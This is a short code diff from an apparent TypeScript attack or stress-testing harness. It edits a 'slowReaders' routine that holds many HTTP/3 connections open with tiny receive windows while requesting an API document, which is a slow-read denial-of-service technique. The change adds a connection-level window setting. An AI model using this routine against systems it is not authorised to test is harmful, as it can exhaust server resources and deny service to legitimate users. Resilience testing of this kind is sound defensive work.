@@ -16,7 +16,12 @@ export const slowReaders: Attack = {
     await Promise.all(
       Array.from({ length: connections }, async () => {
         while (!signal.aborted) {
-          const client = await RawHttp3.open(target, { windowBytes: 2000, reads: false, from });
+          const client = await RawHttp3.open(target, {
+            windowBytes: 2000,
+            connectionWindowBytes: 1e6,
+            reads: false,
+            from,
+          });
           for (; client.hasRoom && !signal.aborted; tally())
             client.request(get("/v1/openapi.json", target), true);
           while (!client.isClosed && !signal.aborted) {
